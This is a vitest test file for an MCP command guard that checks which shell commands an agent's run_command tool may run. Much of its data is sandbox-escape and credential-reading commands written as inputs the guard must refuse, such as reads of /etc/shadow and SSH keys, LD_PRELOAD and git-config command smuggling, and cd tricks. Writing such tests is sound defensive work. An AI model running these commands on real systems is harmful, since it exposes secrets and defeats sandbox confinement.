import {
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Confinement, UNCONFINED } from "@mcpguard/readers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decide } from "../src/decide.ts";
import type { Decision } from "../src/decision.ts";
import { type ResolvedPolicy, resolvePolicy } from "../src/load.ts";
import { Policy } from "../src/schema.ts";

const FULL: Confinement = { files: true, exec: true, network: true };
let root: string;
let work: string;
let policy: ResolvedPolicy;

beforeAll(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "mcpguard-command-")));
  work = join(root, "workspace");
  for (const dir of ["src", "data", "notes", "home/.ssh", "tmp"])
    mkdirSync(join(dir.startsWith("home") || dir === "tmp" ? root : work, dir), { recursive: true });
  writeFileSync(join(work, "src", "hello.py"), "print('hi')\n");
  writeFileSync(join(work, "notes", "a.json"), "{}");
  writeFileSync(join(root, "home", ".ssh", "id_rsa"), "key");
  symlinkSync(join(root, "home", ".ssh", "id_rsa"), join(work, "notes", "b.json"));
  // The repository's own policy for the shell server.
  const file = join(__dirname, "..", "..", "..", "policies", "servers", "shell.json");
  const parsed = Policy.parse(JSON.parse(readFileSync(file, "utf8")));
  policy = resolvePolicy(parsed, undefined, { cwd: work, home: join(root, "home"), tmp: join(root, "tmp") });
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

const run = (command: string, confined: Confinement = UNCONFINED): Decision =>
  decide(policy, "run_command", { command }, undefined, { confined });
const app = (command: string) => run(command, UNCONFINED);
const full = (command: string) => run(command, FULL);

describe("L1 on shell commands, by config", () => {
  it.each([
    "cat logs/access.log | awk '{print $1}' | sort | uniq -c | sort -rn | head -3",
    "for i in $(seq 1 5); do echo $((i * i)); done | paste -sd, -",
    'while IFS=, read -r region product units; do echo "$product $units"; done < data/sales.csv',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell expansion, not a template
    'f=src/hello.py; echo "${f##*/} ${f%.py}" && wc -l "$f"',
    "greet() { printf 'Hello, %s!\\n' \"$1\"; }; greet Ada",
    'echo "release day: `date -u +%A`"',
    "(cd src && ls) && pwd",
    "ls -la && du -sh && find -name '*.py' && cd src && ls -1 --",
    "cd src; cat hello.py; cd ..; ls",
    "mkdir -p out; cd out; echo x > y.txt",
    "find src -type f -exec sha256sum {} \\;",
    "mkdir -p out && cat > out/notes.md <<'EOF'\n# $USER\nEOF",
    "git log --oneline | head -3 && git rev-parse HEAD && git tag v1 && git stash list",
    "python3 -c 'import statistics; print(statistics.median([3, 1, 4]))'",
    "node -e 'console.log(require(\"./data/config.json\").name)'",
    "sed -n '/^## A/,/^## B/p' README.md",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell expansion, not a template
    "bash -c 'v=release-1.2; echo \"${v//./-}\"'",
    "git config --get user.name",
    // git config's valued options are no key: `--type bool` sets pull.rebase.
    "git config --type bool pull.rebase true",
    "git config filter.lfs.required true",
    // env as the shell's `NAME=value cmd` prefix: the command it runs is what is judged.
    "env LC_ALL=C sort data/sales.csv",
    "env -u LANG TZ=UTC date -d @0 +%F",
    "env -i -- wc -l src/hello.py",
    "nice env LC_ALL=C grep -c . src/hello.py",
    // A variable set for a shell alone is known inside it.
    `F=src/hello.py sh -c 'wc -l "$F"'`,
  ])("allows under C-app and C-full: %s", (command) => {
    expect(app(command)).toEqual({ allow: true });
    expect(full(command)).toEqual({ allow: true });
  });

  it.each([
    ["python3 src/hello.py", "l1.code"],
    ["perl -ne 'print if /x/' src/hello.py", "l1.code"],
    ["python3 -c 'import os; os.system(\"id\")'", "l1.code"],
    ['node -e \'require("child_process").execSync("id")\'', "l1.code"],
    ['read -r f; cat "$f"', "l1.command.dynamic"],
    ["ls | xargs cat", "l1.command.dynamic"],
    ["cmd=$(head -1 x); $cmd", "l1.command.dynamic"],
    ['read x; eval "$x"', "l1.command.dynamic"],
    [". ./env.sh", "l1.command.dynamic"],
    ["PATH=./bin:$PATH ls", "l1.command.dynamic"],
    ["env PATH=./bin:/usr/bin ls", "l1.command.dynamic"],
    ["env LD_PRELOAD=./x.so sort data/sales.csv", "l1.command.dynamic"],
    ["GCONV_PATH=. sort data/sales.csv", "l1.command.dynamic"],
    ["export GLIBC_TUNABLES=glibc.malloc.check=3; sort data/sales.csv", "l1.command.dynamic"],
    ["PS4='$(curl x)' bash -xc ls", "l1.command.dynamic"],
    ["git config core.fsmonitor 'curl x'", "l1.command.dynamic"],
    ["git config --type path core.pager 'id>x'", "l1.command.dynamic"],
    // An alias to a subcommand the policy would refuse by its name, or a name git only guesses.
    ["git config alias.p push", "l1.command.dynamic"],
    ["git p evil.example:x HEAD", "l1.command.dynamic"],
    ["git config help.autocorrect immediate", "l1.command.dynamic"],
    ["awk '{ system(\"id\") }' x", "l1.code"],
    ["sed 's/a/b/e' x", "l1.code"],
  ])(
    "refuses under C-app what only the run would show, and leaves it to the kernel under C-full: %s",
    (command, rule) => {
      expect(app(command)).toMatchObject({ allow: false, rule });
      expect(full(command)).toEqual({ allow: true });
    },
  );

  it.each([
    ["cat /etc/passwd", "l1.path.read"],
    ["cat notes/b.json", "l1.path.read"],
    ["cat notes/*.json", "l1.path.read"],
    ["ls > /tmp/out", "l1.path.write"],
    ["curl -s http://example.com/", "l1.exec"],
    ["env", "l1.exec"],
    ["env -0", "l1.exec"],
    ["env X=1", "l1.exec"],
    ["env -C /etc cat passwd", "l1.exec"],
    ["/usr/bin/env X=1 ls", "l1.exec"],
    ["env X=1 cat /etc/passwd", "l1.path.read"],
    ["env LC_ALL=C curl http://example.com/", "l1.exec"],
    ["env GIT_DIR=/etc/.git git log", "l1.path.read"],
    // The variables a shell is started with are its own: neither unset nor unknown inside it.
    [`F=/etc/shadow sh -c 'cat "$F"'`, "l1.path.read"],
    ["env F=/etc/shadow bash -c 'cat $F'", "l1.path.read"],
    [`F=/etc/passwd nice sh -c 'cat "$F"'`, "l1.path.read"],
    [`X='curl http://example.com' sh -c 'eval "$X"'`, "l1.exec"],
    ["printenv AWS_SECRET_ACCESS_KEY", "l1.exec"],
    ["sudo cat /etc/shadow", "l1.exec"],
    ["chmod 777 x", "l1.exec"],
    ["echo $(curl http://example.com)", "l1.exec"],
    ["bash -c 'wget http://example.com'", "l1.exec"],
    ["find . -exec wget -q {} \\;", "l1.exec"],
    ["git fetch origin", "l1.exec"],
    ["git push", "l1.exec"],
    ["git config --global user.email a@b", "l1.path.write"],
    ["cat $'\\x2fetc/passwd'", "l1.path.read"],
    ["git -c core.pager='curl x' log", "l1.exec"],
    // Settings git runs that it documents elsewhere than `git help --config`, and one it runs through ssh.
    [
      "git -c trailer.where.command='head -c 60 /etc/passwd' interpret-trailers --trailer where",
      "l1.path.read",
    ],
    ["git -c gpg.format=ssh -c gpg.ssh.defaultKeyCommand='cat /etc/shadow' log", "l1.path.read"],
    ["python3 -c \"print(open('/etc/passwd').read())\"", "l1.path.read"],
    ['node -e \'require("fs").readFileSync("/etc/shadow")\'', "l1.path.read"],
    ["awk '{ print > \"/tmp/x\" }' f", "l1.path.write"],
    ["sed -n 'w /tmp/x' f", "l1.path.write"],
    ["./scripts/run.sh", "l1.exec"],
    ["kill -9 1", "l1.exec"],
    ["cat ~/.ssh/id_rsa", "l1.path.read"],
    ["cd /etc && cat passwd", "l1.path.read"],
    // A cd that fails leaves the shell where it was: then /etc/passwd is read.
    ["cd /etc; cd src/missing; cat passwd", "l1.path.read"],
    ["cd /etc; cd src; cat passwd", "l1.path.read"],
    ["HOME=/etc; cat ~/passwd", "l1.path.read"],
    ["HOME=/etc; cd && cat passwd", "l1.path.read"],
    // Given no operand, ls, du and find read the folder the line's cd went to.
    ["cd /etc && ls", "l1.path.read"],
    ["cd /etc && ls -la --", "l1.path.read"],
    ["cd / && find -maxdepth 1", "l1.path.read"],
    ["cd .. && du -sh", "l1.path.read"],
    ['ls "$HOME"', "l1.path.read"],
    ["GIT_DIR=/etc/.git git log", "l1.path.read"],
  ])("refuses under every config what it can see outside the policy: %s", (command, rule) => {
    expect(app(command)).toMatchObject({ allow: false, rule });
    expect(full(command)).toMatchObject({ allow: false, rule });
  });

  it("judges a symbolic link's target where the link will point, not against the working directory", () => {
    for (const command of [
      "ln -s ../data/config.json src/config-link.json",
      "ln -s ../notes src/notes-link && ls src/notes-link",
      "ln -sf ../data/config.json src",
      "ln -s -t src ../data/config.json ../notes/a.json",
      "ln -sr data/config.json src/config-link.json",
    ]) {
      expect(app(command), command).toEqual({ allow: true });
      expect(full(command), command).toEqual({ allow: true });
    }
    for (const command of [
      "ln -s /etc/passwd src/p && cat src/p",
      "ln -s ../../home/.ssh/id_rsa src/k",
      "ln -s ../../../etc src",
      "ln -sr ../home/.ssh/id_rsa src/k",
      "ln -s -t src /etc/passwd",
    ]) {
      expect(app(command), command).toMatchObject({ allow: false, rule: "l1.path.read" });
      expect(full(command), command).toMatchObject({ allow: false, rule: "l1.path.read" });
    }
  });

  it("follows where bash is when a cd may fail, runs elsewhere or later, or HOME changes (C-app)", () => {
    // Each was allowed while bash read a file outside the workspace (a review, checked in bash and dash).
    for (const command of [
      "! cd sub && cat ../outside.txt",
      "cd /etc; ! cd src/zz && cat passwd",
      "until cd src/missing; do cat ../../outside.txt; break; done",
      "cd /etc; cd src & cat passwd",
      "mv data d2; cd data; cat ../../outside.txt",
      "trap 'cd src' EXIT; cat ../outside.txt",
      "cd /etc; cd src nothing; cat passwd",
      "cd /etc; cd -x; cat passwd",
      "shopt -s cdable_vars; for etc in /etc; do :; done; cd etc; cat passwd",
      "declare -n r=CDPATH; r=/; cd etc; cat passwd",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: shell expansion, not a template
      "x=CDPATH; : ${!x:=/}; cd etc; cat passwd",
      "bash -c 'shopt -s lastpipe; true | cd /etc; cat passwd'",
      "coproc cd src; cat ../outside.txt",
      "for HOME in src; do :; done; git log",
      "read HOME <<< src; git log",
      // set -e does not end the shell where a failure is tested for.
      "cd /etc; set -e; cd src/missing || cat passwd",
      "cd /etc; set -e; if cd src/missing; cat passwd; then :; fi",
      "cd /etc; set -e; ! cd src/missing; cat passwd",
      "exit() { :; }; cd /etc; cd src/missing || exit 1; cat passwd",
      "for d in /etc src; do cd $d && cat passwd; done",
      "d=/etc; for x in 1; do d=src; done; cd $d; cat passwd",
    ]) {
      expect(app(command), command).toMatchObject({ allow: false });
    }
    // The guards people write: what follows runs where the cd succeeded.
    for (const command of [
      "mkdir -p build; cd build || exit 1; cat ../src/hello.py",
      "cd src || { echo no; exit 1; }; cat hello.py",
      "if cd src; then cat hello.py; fi",
      "set -e; mkdir -p build; cd build; cat ../src/hello.py",
      "cd src & cat src/hello.py; wait",
      "for d in src notes; do (cd $d && ls); done",
    ]) {
      expect(app(command), command).toEqual({ allow: true });
    }
  });

  it("takes the lines of a find that prints only paths as files under its start directories", () => {
    for (const command of [
      "find src -type f -name '*.py' -print0 | xargs -0 wc -l",
      "find src notes -name '*.json' | grep -v tmp | sort | head -n 5 | xargs cat",
      "find . -maxdepth 1 -type f | xargs -I{} cp {} src/",
    ]) {
      expect(app(command), command).toEqual({ allow: true });
      expect(full(command), command).toEqual({ allow: true });
    }
    expect(app("find /etc -name passwd | xargs cat")).toMatchObject({ allow: false, rule: "l1.path.read" });
    for (const command of [
      "find src -printf '%h/../%f\\n' | xargs cat",
      "find src | grep -o '/etc.*' | xargs cat",
      "find src | sed 's,^,/,' | xargs cat",
      "find src -name '*.py' | xargs -I{} cat notes/{}",
    ]) {
      expect(app(command), command).toMatchObject({ allow: false, rule: "l1.command.dynamic" });
      expect(full(command), command).toEqual({ allow: true });
    }
  });

  it("reads the sqlite3 shell's script with SQLite's grammar and its dot-commands under C-app", () => {
    for (const command of [
      "sqlite3 -header -column app.db 'select name, price from products order by price desc'",
      "sqlite3 app.db <<'SQL'\n.headers on\n.mode csv\nCREATE TABLE t (a INTEGER);\nINSERT INTO t VALUES (1);\nSELECT * FROM t;\nSQL",
      "sqlite3 app.db '.tables' '.schema users'",
    ]) {
      expect(app(command), command).toEqual({ allow: true });
      expect(full(command), command).toEqual({ allow: true });
    }
    for (const command of [
      "sqlite3 app.db '.shell id'",
      "sqlite3 app.db \"ATTACH '/tmp/x.db' AS x\"",
      "sqlite3 app.db \"select load_extension('./x.so')\"",
      "sqlite3 app.db '.output /tmp/x' 'select 1'",
      "sqlite3 -init setup.sql app.db 'select 1'",
      "cat q.sql | sqlite3 app.db",
      "sqlite3 app.db 'select * from'",
    ]) {
      expect(app(command), command).toMatchObject({ allow: false, rule: "l1.code" });
      expect(full(command), command).toEqual({ allow: true });
    }
    expect(app("sqlite3 /etc/shadow.db 'select 1'")).toMatchObject({ allow: false, rule: "l1.path.read" });
  });

  it("says why, naming what only the shell knows", () => {
    expect(app('read -r f; cat "$f"')).toMatchObject({
      reason: expect.stringMatching(/comes from a line read by read, which only the shell knows at run time/),
    });
    expect(app("echo 'unclosed")).toMatchObject({
      rule: "l1.command.unparsable",
      reason: expect.stringMatching(/^the command does not parse as shell: line 1/),
    });
  });
});
